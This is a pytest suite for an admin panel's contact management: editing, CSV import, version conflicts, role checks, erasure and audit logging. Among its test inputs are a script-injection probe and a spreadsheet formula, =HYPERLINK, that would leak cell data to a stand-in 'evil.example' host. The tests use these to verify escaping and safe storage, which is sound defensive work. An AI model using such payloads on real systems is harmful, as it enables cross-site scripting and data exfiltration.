"""The panel's contacts: found, put, deleted, imported from files; and what is kept about a user."""

import json
import re
from collections.abc import Mapping
from typing import Any
from urllib.parse import urlencode

import pytest

from chalicelib.admin.reasons import REASONS
from chalicelib.admin.views import contacts as contacts_page
from chalicelib.admin.views.contacts import FORM_FIELDS, version_of
from chalicelib.services.contacts import put_contact, read_contact, shown
from chalicelib.services.errors import NotFoundError
from chalicelib.services.rights import Role
from chalicelib.tables.suppressions import suppress
from chalicelib.tables.unsubscribes import find
from tests.support.api import set_api_clock
from tests.support.audited import BY_MANAGER, audited, audited_text
from tests.support.aws import World
from tests.support.factories import START, address_of, user_id, user_ids
from tests.support.panel import Browser, Shown, visitor

ANNA, BORIS = user_ids(2)
SCRIPT = "<script>alert(1)</script>"
WHOLE = {
    "name": "Anna", "email": "anna@example.com", "chat_id": "42",
    "webhook_url": "https://example.com/hook", "locale": "ru", "time_zone": "Europe/Moscow",
}  # fmt: skip


@pytest.fixture(autouse=True)
def _clock(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    set_api_clock(monkeypatch, world.clock)


@pytest.fixture
def browser(world: World) -> Browser:
    return visitor(now=START)


def path_of(user: str = ANNA, *more: str) -> str:
    return "/".join(("/admin/contacts", user, *more))


def put(browser: Browser, fields: Mapping[str, str], version: str | None = None) -> Shown:
    """Send the form of a contact with these fields and the others empty, as the page has it now."""
    found = re.search(r'name="version" value="([^"]+)"', browser.get(path_of()).html)
    shown = version or (found[1] if found else version_of(None))
    return browser.post(path_of(), dict.fromkeys(FORM_FIELDS, "") | dict(fields) | {"version": shown})


def delete(browser: Browser, version: str | None = None) -> Shown:
    """Press the button as the page has it now."""
    found = re.search(r'name="version" value="([^"]+)"', browser.get(path_of()).html)
    return browser.post(path_of(ANNA, "delete"), {"version": version or (found[1] if found else "")})


def test_what_another_has_changed_meanwhile_is_not_deleted(browser: Browser) -> None:
    put(browser, WHOLE)
    stale = re.findall(r'name="version" value="([^"]+)"', browser.get(path_of()).html)
    assert len(set(stale)) == 1, "both forms of the page have it"
    assert len(stale) == 2
    put(browser, WHOLE | {"email": "new@example.com"})
    for version in (stale[0], "x"):
        refused = delete(browser, version)
        assert (refused.status, "changed by another meanwhile" in refused.text) == (412, True)
    again = delete(browser, re.findall(r'name="version" value="([^"]+)"', refused.html)[-1])
    assert again.status == 412, "the page that says so has not read it anew"
    assert read_contact(ANNA).email == "new@example.com"
    assert "Deleted." in delete(browser).text


def test_what_another_has_changed_meanwhile_is_not_put_back(browser: Browser) -> None:
    put(browser, WHOLE)
    found = re.search(r'name="version" value="([^"]+)"', browser.get(path_of()).html)
    assert found
    put(browser, WHOLE | {"email": "new@example.com"})
    refused = put(browser, WHOLE | {"name": "Another"}, version=found[1])
    assert (refused.status, "changed by another meanwhile" in refused.text) == (412, True)
    assert read_contact(ANNA).email == "new@example.com"


def test_a_form_that_is_not_whole_takes_nothing_away(browser: Browser) -> None:
    put(browser, WHOLE)
    assert browser.post(path_of(), {"name": "Anna"}).status == 422
    assert read_contact(ANNA).email == WHOLE["email"]


def kept(user: str = ANNA) -> dict[str, str | None] | None:
    try:
        return {name: value for name, value in shown(read_contact(user)).items() if value}
    except NotFoundError:
        return None


def imported(browser: Browser, text: str | bytes, **query: int) -> Shown:
    data = text.encode() if isinstance(text, str) else text
    asked = {"first": 2, "header": 1, "part": 1, "parts": 1, **query}
    return browser.post(f"/admin/contacts/parts?{urlencode(asked)}", text=data)


def report(shown: Shown) -> dict[str, Any]:
    assert shown.status == 200, shown.html
    return json.loads(shown.html)  # type: ignore[no-any-return]


def test_a_user_is_found_by_their_id(browser: Browser) -> None:
    for wanted in (ANNA, ANNA.upper(), ANNA.replace("-", ""), f"%20{ANNA}%20"):
        assert browser.get(f"/admin/contacts?user={wanted}").path == path_of()
    found = browser.get("/admin/contacts?user=anna")
    assert (found.status, "Not a user id" in found.text) == (422, True)
    assert browser.get("/admin/contacts/anna").status == 404
    assert "Find a contact by the user’s id" in browser.get("/admin/contacts").text


def test_a_contact_is_put_changed_and_deleted(browser: Browser) -> None:
    assert "This user has no contact yet" in browser.get(path_of()).text
    saved = put(browser, WHOLE)
    assert (saved.status, saved.path, "Saved." in saved.text) == (200, f"{path_of()}?done=saved", True)
    assert kept() == {"user_id": ANNA, **WHOLE}
    for value in WHOLE.values():
        assert f'value="{value}"' in saved.html
    put(browser, {"email": " boris@example.com "})
    assert kept() == {"user_id": ANNA, "email": "boris@example.com"}
    assert "Deleted." in delete(browser).text
    assert kept() is None


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("email", "anna", "is not a mail address"),
        ("chat_id", "0", "must be a whole number of at most 64 bits, and not 0"),
        ("webhook_url", "http://10.0.0.1/", "must be an https URL of a public host"),
        ("locale", "xx", "must be one of en, ru"),
        ("time_zone", "Moscow", "is not an IANA time zone"),
        ("name", "x" * 201, "at most 200 characters"),
        ("name", "An\x07na", "must not have control characters or line breaks"),
    ],
)
def test_what_cannot_be_taken_is_said_at_its_field(
    browser: Browser, field: str, value: str, reason: str
) -> None:
    put(browser, WHOLE)
    refused = put(browser, WHOLE | {field: value})
    assert refused.status == 422
    error = re.search(rf'id="e-{field}">([^<]+)', refused.html)
    assert error
    assert error[1].startswith(reason)
    assert 'value="anna@example.com"' in refused.html or field == "email"
    assert kept() == {"user_id": ANNA, **WHOLE}
    pattern = re.sub(r"\d+", "{}", error[1])
    assert pattern in {re.sub(r"\{\d\}", "{}", each) for each in REASONS}


def test_an_erased_users_contact_is_not_taken(world: World, browser: Browser) -> None:
    world.erases(ANNA)
    page = browser.get(path_of())
    assert "This user’s data is erased" in page.text
    assert 'id="contact"' not in page.html
    refused = put(browser, WHOLE)
    assert (refused.status, "the user is erased" in refused.text) == (409, True)
    assert ANNA + ":" not in refused.text
    assert kept() is None


def test_contacts_that_are_kept_elsewhere_are_not_changed_here(world: World, browser: Browser) -> None:
    world.configure("GET_USERS_INFO_HOST", "https://users.example/{page}/{field}")
    world.configure("DIRECTORY", "http")
    for path in ("/admin/contacts", "/admin/contacts/import", path_of()):
        page = browser.get(path)
        assert (page.status, "contacts are kept and changed there" in page.text) == (200, True)
        assert 'id="contact"' not in page.html
        assert 'id="import"' not in page.html
    assert put(browser, WHOLE).status == 409
    assert imported(browser, f"user_id,name\n{ANNA},Anna\n").status == 409
    world.configure("DIRECTORY", "table")
    assert kept() is None


def test_what_is_stored_is_shown_as_text(browser: Browser) -> None:
    put_contact({"user_id": ANNA, "name": SCRIPT})
    for path in (path_of(), f"/admin/users/{ANNA}"):
        page = browser.get(path)
        assert SCRIPT not in page.html
        assert "&lt;script&gt;alert(1)" in page.html


@pytest.mark.parametrize("role", [Role.VIEWER, Role.SENDER])
def test_only_a_manager_comes_here(role: Role) -> None:
    browser = visitor(role, now=START)
    put_contact({"user_id": ANNA, "name": "Anna"})
    for path in ("/admin/contacts", "/admin/contacts/import", path_of(), f"/admin/users/{ANNA}"):
        assert browser.get(path).status == 403
    for path in (path_of(), path_of(ANNA, "delete"), f"/admin/users/{ANNA}/erase"):
        assert browser.post(path, {"agreed": "on", "name": "X"}).status == 403
    assert browser.get(f"/admin/users/{ANNA}/file").status == 403
    assert imported(browser, f"user_id,name\n{ANNA},X\n").status == 403
    assert kept() == {"user_id": ANNA, "name": "Anna"}
    assert ">Contacts<" not in browser.get("/admin/account").html


# Files


def test_a_file_is_imported_in_parts_and_bad_lines_have_the_files_numbers(browser: Browser) -> None:
    first = f"user_id,email\n{ANNA},anna@example.com\nnobody,x@example.com\n"
    told = report(imported(browser, first, part=1, parts=2, first=2))
    assert (told["lines"], told["imported"], told["rejected"]) == (2, 1, 1)
    assert told["errors"] == [{"line": 3, "field": "user_id", "reason": "is not a UUID"}]
    second = f"user_id,email\n{BORIS},boris@example.com\n{BORIS},boris,too much\n{BORIS},boris\n"
    told = report(imported(browser, second, part=2, parts=2, first=4))
    assert (told["imported"], told["rejected"]) == (1, 2)
    assert [(each["line"], each["field"]) for each in told["errors"]] == [(5, "(line)"), (6, "email")]
    assert kept() == {"user_id": ANNA, "email": "anna@example.com"}
    assert kept(BORIS) == {"user_id": BORIS, "email": "boris@example.com"}


def test_of_many_bad_lines_all_are_counted(browser: Browser) -> None:
    text = "user_id,email\n" + "".join(f"{user_id(each)},wrong\n" for each in range(1, 251))
    told = report(imported(browser, text))
    assert (told["imported"], told["rejected"], len(told["errors"])) == (0, 250, 100)


def test_an_erased_user_is_a_bad_line(world: World, browser: Browser) -> None:
    world.erases(ANNA)
    told = report(imported(browser, f"user_id,name\n{ANNA},Anna\n"))
    assert told["errors"] == [
        {"line": 2, "field": "user_id", "reason": "the user is erased: they have to subscribe again first"}
    ]
    assert kept() is None


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00", "is not UTF-8"),
        (b"\x00\x01\x02", "must name the columns"),
        (b"", "must name the columns"),
        (b"name,email\nAnna,anna@example.com\n", "must name the columns"),
        (b"user_id;email\nx;y\n", "must name the columns"),
        (b"user_id,user_id\n", "comes twice"),
        (b"user_id,shoe_size\n", "is none of"),
        (b'user_id,"name\nx', "is not CSV"),
    ],
)
def test_what_is_no_such_csv_is_refused_in_words(browser: Browser, data: bytes, said: str) -> None:
    refused = imported(browser, data)
    assert (refused.status, said in refused.text) == (422, True), refused.text
    assert 'role="alert"' in refused.html  # where the script finds it


def test_a_formula_is_a_text_as_any_other(browser: Browser) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    cell = formula.replace('"', '""')
    report(imported(browser, f'user_id,name\n{ANNA},"{cell}"\n{BORIS},{SCRIPT}\n'))
    assert kept() == {"user_id": ANNA, "name": formula}
    page = browser.get(path_of())
    assert "=HYPERLINK(&#34;" in page.html
    assert SCRIPT not in browser.get(path_of(BORIS)).html


def test_a_file_has_so_many_lines_at_most(browser: Browser) -> None:
    most = contacts_page.MAX_FILE_LINES // contacts_page.PART_LINES
    text = f"user_id,name\n{ANNA},Anna\n"
    refused = imported(browser, text, part=1, parts=most + 1)
    assert (refused.status, "at most 100000 lines" in refused.text) == (413, True)
    assert kept() is None
    assert report(imported(browser, text, part=most, parts=most))["imported"] == 1
    page = browser.get("/admin/contacts/import").html
    assert 'data-max="100000"' in page
    assert f'data-lines="{contacts_page.PART_LINES}"' in page


def test_a_full_part_is_taken_at_once(browser: Browser) -> None:
    lines = "".join(f"{user_id(each)},user-{each}\n" for each in range(1, contacts_page.PART_LINES + 1))
    told = report(imported(browser, f"user_id,name\n{lines}"))
    assert told["imported"] == contacts_page.PART_LINES


def test_a_part_without_its_place_or_its_token_is_refused(browser: Browser) -> None:
    text = f"user_id,name\n{ANNA},Anna\n".encode()
    assert browser.post("/admin/contacts/parts", text=text).status == 422
    where = "/admin/contacts/parts?first=2&header=1&part=1&parts=1"
    assert browser.post(where, text=text, csrf="wrong").status == 403
    assert kept() is None


# What is kept about a user


def test_everything_that_is_kept_is_shown_and_taken_along(world: World, browser: Browser) -> None:
    world.knows([ANNA])
    dispatch = world.submit([ANNA], title=SCRIPT)
    world.settle()
    suppress("mail", address_of(ANNA), "bounced: no", START)
    page = browser.get(f"/admin/users/{ANNA}")
    assert SCRIPT not in page.html
    assert f'admin/notifications/{dispatch.notification_id}"' in page.html
    assert page.text.count(address_of(ANNA)) == 2
    file = browser.get(f"/admin/users/{ANNA}/file")
    assert file.headers["Content-Disposition"] == f'attachment; filename="user-{ANNA}.json"'
    told = json.loads(file.html)
    assert (told["contact"]["email"], told["results"][0]["title"]) == (address_of(ANNA), SCRIPT)
    assert "Nothing that was sent to the user is stored here" in browser.get(f"/admin/users/{BORIS}").text


def test_a_full_page_of_what_is_kept_is_small_and_has_a_next(world: World, browser: Browser) -> None:
    world.knows([ANNA])
    for _ in range(26):
        world.submit([ANNA], title="<" * 200)
        world.clock.advance(1)
    world.settle()
    page = browser.get(f"/admin/users/{ANNA}")
    assert page.html.count("<tr>") == 26
    assert len(page.html.encode()) < 100_000
    found = re.search(r'rel="next" href="\.\./\.\./([^"]+)"', page.html)
    assert found
    assert browser.get("/" + found[1].replace("&amp;", "&")).html.count("<tr>") == 2


def test_who_is_erased_was_meant_to_be(world: World, browser: Browser) -> None:
    world.knows([ANNA])
    refused = browser.post(f"/admin/users/{ANNA}/erase")
    assert (refused.status, "This box has to be ticked." in refused.text) == (422, True)
    assert kept() is not None
    done = browser.post(f"/admin/users/{ANNA}/erase", {"agreed": "on"})
    assert "The user’s data is erased." in done.text
    assert kept() is None
    row = find(ANNA)
    assert row is not None
    assert row.is_tombstone


def test_what_is_done_here_is_in_the_audit_log_without_an_address(browser: Browser) -> None:
    put(browser, WHOLE)
    put(browser, WHOLE | {"email": "wrong"})
    delete(browser)
    imported(browser, f"user_id,email\n{ANNA},carl@example.com\n{BORIS},dora@example.com\n")
    browser.post(f"/admin/users/{ANNA}/erase")
    browser.post(f"/admin/users/{ANNA}/erase", {"agreed": "on"})
    assert audited() == [
        (BY_MANAGER, "put", "contact", ANNA),
        (BY_MANAGER, "deleted", "contact", ANNA),
        (BY_MANAGER, "imported", "contact", "many"),
        (BY_MANAGER, "erased", "user", ANNA),
    ]
    assert "example.com" not in audited_text()
